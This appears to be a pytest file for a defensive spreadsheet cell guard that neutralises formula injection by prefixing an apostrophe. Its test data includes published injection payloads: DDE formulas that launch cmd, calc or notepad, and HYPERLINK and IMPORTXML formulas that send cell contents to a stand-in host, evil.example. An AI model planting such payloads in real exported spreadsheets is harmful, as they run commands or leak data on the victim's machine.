"""The guard of cells, against what is published of formula injection (OWASP, HackerOne and CVE reports)."""

import pytest

from bot.rules.registers.guard import for_xml, guarded, is_counted, unguarded

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "-2+3+cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless to the eye",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22121+1",
    "-",
    "@ana will do it",
    "+44 20 7946 0000",
]
HARMLESS = ["", "Vendor may slip the API", "a=b", "1+1", "x@example.org", "'quoted'", "10 - 3", "– a dash", "(=1)"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_count_stands_behind_an_apostrophe(text: str) -> None:
    assert is_counted(text)
    assert guarded(text) == f"'{text}"
    assert not is_counted(guarded(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_no_spreadsheet_counts_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS, "'=1", "''=1", "'-"])
def test_reading_takes_off_what_writing_put_on(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_signs_that_no_workbook_may_hold_are_left_out() -> None:
    assert for_xml("a\x00b\x0bc\x1fd\ud800e\uffff") == "abcde"
    assert for_xml("line\n\tnext 🟥") == "line\n\tnext 🟥"
